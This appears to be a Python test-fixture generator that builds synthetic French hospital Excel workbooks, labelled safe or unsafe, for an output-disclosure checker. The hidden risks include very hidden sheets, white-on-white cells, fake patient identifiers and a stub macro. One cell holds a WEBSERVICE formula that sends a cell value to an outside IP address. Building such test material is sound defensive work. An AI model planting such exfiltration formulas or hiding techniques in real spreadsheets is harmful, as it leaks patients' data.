"""Excel files of hospital management and research, with what Excel hides."""

import openpyxl
import xlsxwriter
from openpyxl.chart import BarChart, Reference
from openpyxl.comments import Comment
from openpyxl.styles import Alignment, Font, PatternFill
from openpyxl.workbook.defined_name import DefinedName

from tests.airlock.outputs.case import Shelf
from tests.airlock.outputs41 import tools as t

WARDS = [
    "Cardiologie",
    "Pneumologie",
    "Gastro-entérologie",
    "Neurologie",
    "Rhumatologie",
    "Dermatologie",
    "Médecine interne",
    "Gériatrie aiguë",
    "SMR",
    "Chirurgie digestive",
    "Orthopédie",
    "Urologie",
]


def write(shelf: Shelf) -> None:
    _management(shelf)
    _hidden(shelf)
    _objects(shelf)
    _plain(shelf)


def _management(shelf: Shelf) -> None:
    rng = shelf.random("dms")
    rows: list[list[object]] = [
        ["Pôle / service", "Lits", "Séjours 2023", "Séjours 2024", "DMS 2023", "DMS 2024", "TO (%)", "IP-DMS", "Rang"]
    ]
    for i, w in enumerate(WARDS):
        beds, dms, to = (
            rng.choice([8, 9, 16, 21, 24, 28, 32]),
            round(rng.uniform(3.5, 9.5), 1),
            round(rng.uniform(78, 96), 1),
        )
        now = round(beds * 365 * to / 100 / dms)
        rows.append(
            [
                w,
                beds,
                round(now * rng.choice([0.94, 1.06])),
                now,
                round(dms * rng.choice([0.95, 1.04]), 1),
                dms,
                to,
                round(rng.uniform(0.85, 1.2), 2),
                i + 1,
            ]
        )
    w = t.book(
        {
            "Activité": rows,
            "Lisez-moi": [
                ["Champ", "Définition"],
                ["DMS", "durée moyenne de séjour en jours, hors séances et séjours de 0 nuit"],
                ["TO", "taux d'occupation des lits"],
                ["IP-DMS", "indice de performance, 1 = référence nationale"],
                ["Rang", "ordre de présentation"],
            ],
        }
    )
    w["Activité"].freeze_panes = "B2"
    w.save(
        shelf.safe(
            "pilotage/dms_2024.xlsx",
            "beds 8 and 9, ranks 1 to 9, mean stay of 3 to 9 days",
            "Tableau de bord de la durée de séjour par service.",
            "Tous les séjours d'hospitalisation complète, 12 services, 2023-2024",
        )
    )

    rng = shelf.random("ghm")
    rows = [["GHM", "Libellé", "Séjours", "Recettes (k€)", "Coût (k€)", "Solde (k€)"]]
    for code, label in (
        ("05K102", "Surveillance de greffe de cœur"),
        ("05M042", "Arythmies, niveau 2"),
        ("05M092", "Insuffisances cardiaques, niveau 2"),
        ("05M093", "Insuffisances cardiaques, niveau 3"),
        ("05C142", "Stimulateur définitif, niveau 2"),
        ("05K061", "Endoprothèses vasculaires, niveau 1"),
        ("05M061", "Angine de poitrine, niveau 1"),
        ("05C103", "Chirurgie majeure de revascularisation, niveau 3"),
    ):
        n = rng.randint(60, 480)
        r, c = round(n * rng.uniform(2.1, 6.4)), round(n * rng.uniform(2.2, 6.1))
        rows.append([code, label, n, r, c, r - c])
    rows[1][2:] = [6, 212, 239, -27]
    t.book({"GHM 2023": rows}).save(
        shelf.unsafe(
            "pilotage/solde_ghm.xlsx",
            "small count of stays (6)",
            "row 05K102",
            "Recettes et coûts par GHM en cardiologie.",
            "Séjours de cardiologie 2023",
        )
    )

    rng = shelf.random("prod")
    rows = [["Pharmacie – dépenses 2024 (€)", "Dépense", "dont premier patient", "Patients"]]
    for m, d, n in (
        ("Immunoglobulines IV", 2412300, 184),
        ("Facteurs de coagulation", 3120450, 41),
        ("Enzymothérapie", 1874000, 12),
        ("Anti-C5", 4218000, 19),
        ("Thérapies anti-VEGF", 890120, 622),
        ("Rituximab et biosimilaires", 412800, 301),
    ):
        rows.append([m, d, round(d * rng.uniform(0.05, 0.18)), n])
    rows[2][2] = 2808000
    t.book({"Molécules onéreuses": rows}).save(
        shelf.unsafe(
            "pharmacie/molecules_onereuses.xlsx",
            "one patient makes 90 % of a sum",
            "Facteurs de coagulation, column C",
            "Dépenses de molécules onéreuses et concentration.",
            "Patients ayant reçu une molécule de la liste en sus en 2024",
        )
    )

    rows = [["Semaine", "Passages", "Hospitalisés", "Délai médian (min)", "Tri 1-2 (%)", "Box ouverts de nuit"]]
    rng = shelf.random("sau")
    for k in range(1, 41):
        n = rng.randint(820, 1100)
        rows.append(
            [
                f"2024-S{k:02d}",
                n,
                round(n * rng.uniform(0.2, 0.26)),
                rng.randint(140, 260),
                round(rng.uniform(5, 9), 1),
                rng.choice([7, 8, 9]),
            ]
        )
    path = shelf.safe(
        "urgences/hebdo_sau.xlsx",
        "weeks 1 to 40, 7 to 9 open bays, 5-9 %",
        "Activité hebdomadaire du service des urgences et box ouverts de nuit.",
        "38 000 passages aux urgences adultes, 2024",
    )
    x = xlsxwriter.Workbook(str(path))
    s = x.add_worksheet("SAU")
    for i, r in enumerate(rows):
        s.write_row(i, 0, r)
    s.add_table(0, 0, len(rows) - 1, 5, {"columns": [{"header": h} for h in rows[0]]})
    c = x.add_chart({"type": "line"})
    c.add_series(
        {"name": "=SAU!$B$1", "categories": f"=SAU!$A$2:$A${len(rows)}", "values": f"=SAU!$B$2:$B${len(rows)}"}
    )
    s.insert_chart("H2", c)
    x.close()


def _hidden(shelf: Shelf) -> None:
    base = [
        ["Centre", "Inclus", "Évalués à M6", "Succès (%)"],
        ["Centre 1", 142, 121, 61.2],
        ["Centre 2", 98, 84, 59.5],
        ["Centre 3", 211, 186, 64.0],
        ["Centre 4", 77, 64, 57.8],
        ["Total", 528, 455, 61.5],
    ]
    w = t.book(
        {
            "Résultats": base,
            "brut": [
                ["centre", "EI grave", "retrait de consentement"],
                ["Centre 1", 3, 2],
                ["Centre 2", 1, 0],
                ["Centre 3", 5, 4],
                ["Centre 4", 2, 1],
            ],
        }
    )
    w["brut"].sheet_state = "veryHidden"
    w.save(
        shelf.unsafe(
            "essai/inclusions_m6.xlsx",
            "small counts on a very hidden sheet",
            "sheet brut",
            "Inclusions et succès à six mois par centre.",
            "528 patients randomisés",
        )
    )

    rng = shelf.random("bmr")
    rows = [["Service", "Dépistages", "BMR +", "% BMR"]]
    for s in WARDS[:9]:
        n = rng.randint(420, 900)
        k = t.yes(rng, n, 0.07)
        rows.append([s, n, k, round(100 * k / n, 1)])
    rows.append(["Ophtalmologie", 388, 3, 0.8])
    w = t.book({"BMR": rows})
    w["BMR"].row_dimensions[11].hidden = True
    w.save(
        shelf.unsafe(
            "hygiene/bmr_2023.xlsx",
            "small count in a hidden row",
            "row 11",
            "Dépistage des bactéries multirésistantes par service.",
            "6 000 dépistages à l'admission en 2023",
        )
    )

    rng = shelf.random("vac")
    rows = [["Tranche d'âge", "Population", "Vaccinés", "Couverture (%)", "Hospitalisés après vaccin"]]
    for a, n, e in (
        ("65-69", 1411, 4),
        ("70-74", 1290, 7),
        ("75-79", 1105, 9),
        ("80-84", 932, 6),
        ("85 et +", 1247, 8),
    ):
        k = t.yes(rng, n, 0.63)
        rows.append([a, n, k, round(100 * k / n, 1), e])
    w = t.book({"Couverture": rows})
    w["Couverture"].column_dimensions["E"].hidden = True
    w.save(
        shelf.unsafe(
            "geriatrie/couverture_grippe.xlsx",
            "small counts in a hidden column",
            "column E",
            "Couverture vaccinale antigrippale par âge.",
            "5 985 patients de 65 ans et plus",
        )
    )

    rng = shelf.random("fmt")
    rows = [["Germe", "Hémocultures", "Résistance C3G (n)", "Décès J30"]]
    for g, n in (("E. coli", 644), ("K. pneumoniae", 231), ("P. aeruginosa", 118), ("S. aureus", 402)):
        rows.append([g, n, t.yes(rng, n, 0.2), t.yes(rng, n, 0.16)])
    rows.append(["E. cloacae", 96, 41, 4])
    w = t.book({"Bactériémies": rows})
    w["Bactériémies"]["D6"].number_format = '"<10";"<10";"<10"'
    w.save(
        shelf.unsafe(
            "infectieux/bacteriemies.xlsx",
            "a number format shows <10 but the cell holds 4",
            "D6",
            "Bactériémies par germe, résistance et mortalité.",
            "1 491 bactériémies, 2019-2023",
        )
    )

    rows = [
        ["Traitement", "Patients", "Rémission S12", "Arrêt pour intolérance"],
        ["Adalimumab", 312, 141, 38],
        ["Infliximab", 276, 133, 41],
        ["Védolizumab", 198, 79, 17],
        ["Ustékinumab", 144, 60, 5],
    ]
    w = t.book({"MICI": rows})
    w["MICI"]["D5"].font = Font(color="FFFFFFFF")
    w["MICI"]["D5"].fill = PatternFill("solid", fgColor="FFFFFFFF")
    w.save(
        shelf.unsafe(
            "gastro/mici_biotherapies.xlsx",
            "small count in white on white",
            "D5",
            "Rémission à 12 semaines par biothérapie.",
            "930 patients atteints de MICI",
        )
    )


def _objects(shelf: Shelf) -> None:
    rows = [
        ["Indicateur", "Avant", "Après"],
        ["Patients", 420, 447],
        ["Chutes", 61, 43],
        ["Chutes avec fracture", 16, 14],
        ["Contention", 39, 25],
    ]
    w = t.book({"Chutes": rows})
    w["Chutes"]["C4"].comment = Comment("dont M. " + "Bertrand " + "Lacombrade (ch. 214), à retirer", "")
    w.save(
        shelf.unsafe(
            "geriatrie/chutes.xlsx",
            "a patient's name in a cell comment",
            "comment on C4",
            "Chutes avant et après le programme de prévention.",
            "867 patients de gériatrie",
        )
    )

    rows = [["Mois", "Greffes", "Refus d'offre"]] + [
        [f"2023-{m:02d}", 14 + (m * 7) % 11, 31 + (m * 5) % 17] for m in range(1, 13)
    ]
    w = t.book({"Greffes": rows})
    w.defined_names["listeIPP"] = DefinedName(
        "listeIPP", attr_text='"' + ";".join(f"80{40213377 + 91733 * i:08d}" for i in range(6)) + '"'
    )
    w.save(
        shelf.unsafe(
            "nephro/greffes_mensuelles.xlsx",
            "IPP in a defined name",
            "defined name listeIPP",
            "Greffes rénales mensuelles et refus d'offre.",
            "Greffes de 2023",
        )
    )

    rows = [
        ["Classe", "Patients", "Réponse", "Taux (%)"],
        ["Anti-CGRP", 188, 97, 51.6],
        ["Topiramate", 240, 84, 35.0],
        ["Bêtabloquant", 301, 112, 37.2],
    ]
    w = t.book({"Migraine": rows})
    w["Migraine"]["F1"] = '=WEBSERVICE("http://198.51.100.7/c?d="&B2)'
    w.save(
        shelf.unsafe(
            "neuro/migraine.xlsx",
            "a formula sends a cell to an address",
            "F1",
            "Réponse aux traitements de fond de la migraine.",
            "729 patients migraineux",
        )
    )

    rows = [
        ["Âge", "Femmes", "Hommes"],
        ["18-39", 240, 198],
        ["40-59", 388, 402],
        ["60-79", 511, 604],
        ["80 et +", 302, 221],
    ]
    w = t.book({"Pyramide": rows})
    s = w["Pyramide"]
    chart = BarChart()
    chart.add_data(Reference(s, min_col=2, max_col=3, min_row=1, max_row=5), titles_from_data=True)
    chart.set_categories(Reference(s, min_col=1, min_row=2, max_row=5))
    s.add_chart(chart, "F2")
    s["A8"] = "Ensemble"
    s["B8"], s["C8"] = "=SUM(B2:B5)", "=SUM(C2:C5)"
    s["D8"] = "=ROUND(100*B8/(B8+C8),1)"
    w.save(
        shelf.safe(
            "sante_publique/pyramide.xlsx",
            "harmless formulas, 80 and over",
            "Pyramide des âges de la cohorte.",
            "2 866 patients inclus dans l'entrepôt pour une dénutrition",
        )
    )

    path = shelf.unsafe(
        "bloc/temps_occupation.xlsm",
        "a macro",
        "xl/vbaProject.bin",
        "Temps d'occupation des salles de bloc.",
        "4 212 interventions, 2023",
    )
    x = xlsxwriter.Workbook(str(path))
    s = x.add_worksheet("Bloc")
    for i, r in enumerate(
        [
            ["Salle", "Interventions", "TROS (h)", "Débordement (%)"],
            *[[f"Salle {k}", 702, 1180 + 31 * k, 11.5 + k] for k in range(1, 7)],
        ]
    ):
        s.write_row(i, 0, r)
    vba = shelf.path("bloc/parts.bin")
    vba.write_bytes(
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
        + b"\0" * 504
        + "_VBA_PROJECT".encode("utf-16le")
        + b'Attribute VB_Name = "ThisWorkbook"\r\nSub Workbook_Open()\r\nEnd Sub\r\n'
        + b"\0" * 900
    )
    x.add_vba_project(str(vba))
    x.close()
    vba.unlink()

    w = openpyxl.Workbook()
    w.properties.creator = ""
    s = w.active
    s.title = "Satisfaction"
    s.merge_cells("A1:D1")
    s["A1"] = "e-Satis 2024 – score ajusté (sur 100)"
    s["A1"].alignment = Alignment(horizontal="center")
    for r in [
        ["Dimension", "Réponses", "Score", "Évolution"],
        ["Accueil", 1212, 76.4, 0.8],
        ["Soins", 1212, 81.2, 1.3],
        ["Chambre", 1212, 68.0, -2.1],
        ["Repas", 1212, 57.9, 3.4],
        ["Sortie", 1212, 66.7, 0.2],
    ]:
        s.append(r)
    s["A9"] = "Classe C, 4e quartile ; 5 dimensions, 63 questions, échelle de 1 à 5."
    w.save(
        shelf.safe(
            "qualite/esatis_2024.xlsx",
            "5 dimensions, scale 1 to 5, evolution 1.3 points",
            "Scores de satisfaction des patients hospitalisés plus de 48 h.",
            "1 212 répondants en 2024",
        )
    )


def _plain(shelf: Shelf) -> None:
    rng = shelf.random("sd")
    rows = [["Dose (mg)", "N", "Moyenne Cmin", "Écart-type"]]
    for d in (100, 200, 300, 400, 600):
        rows.append([d, rng.randint(28, 66), round(d * 0.031, 2), round(d * 0.009, 2)])
    rows.append([800, "n.c.", 26.17, "NA"])
    t.book({"Imatinib": rows}).save(
        shelf.unsafe(
            "pharmaco/imatinib_cmin.xlsx",
            "mean of one person: its SD does not exist",
            "row 800 mg",
            "Concentrations résiduelles d'imatinib par dose.",
            "Patients sous imatinib avec dosage",
        )
    )

    rows = [
        ["Modèle", "AUC test", "AUC pli 1", "AUC pli 2", "AUC pli 3", "AUC pli 4", "AUC pli 5", "Brier", "Variables"],
        ["Logistique", 0.781, 0.772, 0.79, 0.765, 0.788, 0.779, 0.142, 9],
        ["Forêt aléatoire", 0.803, 0.799, 0.811, 0.79, 0.806, 0.801, 0.137, 24],
        ["LightGBM", 0.812, 0.806, 0.82, 0.801, 0.815, 0.808, 0.134, 24],
    ]
    t.book({"Performances": rows}).save(
        shelf.safe(
            "data/performances_readmission.xlsx",
            "folds 1 to 5, 9 variables",
            "Performances de trois modèles de réadmission en validation croisée à 5 plis.",
            "24 310 séjours, 2018-2023",
        )
    )

    rng = shelf.random("ehpad")
    rows = [["Jour", "Âge", "Sexe", "GIR", "Destination", "Durée"]]
    rows += [
        [
            i,
            rng.randint(70, 89),
            rng.choice("FM"),
            rng.randint(1, 6),
            rng.choice(["EHPAD", "Domicile", "SMR"]),
            rng.randint(4, 40),
        ]
        for i in range(1, 61)
    ]
    t.book(
        {
            "Synthèse": [["Destination", "%"], ["EHPAD", 41], ["Domicile", 35], ["SMR", 24]],
            "Données du graphique": rows,
        }
    ).save(
        shelf.unsafe(
            "geriatrie/destinations_sortie.xlsx",
            "one row per patient on the second sheet",
            "sheet Données du graphique",
            "Destination à la sortie selon le GIR.",
            "Patients de gériatrie sortis en 2023",
        )
    )

    rows = [
        ["Équipement", "Nombre", "Année moyenne", "Heures d'usage", "Pannes"],
        ["Scanner", 3, 2018, 14210, 7],
        ["IRM 3T", 2, 2020, 9920, 4],
        ["Échographe", 9, 2019, 21480, 9],
        ["Mammographe", 1, 2021, 2110, 1],
        ["Table de radiologie", 6, 2016, 18020, 8],
    ]
    t.book({"Parc": rows}).save(
        shelf.safe(
            "imagerie/parc_equipements.xlsx",
            "small numbers of machines and of their failures",
            "Inventaire et pannes du parc d'imagerie.",
            "Équipements d'imagerie du site, aucun patient",
        )
    )
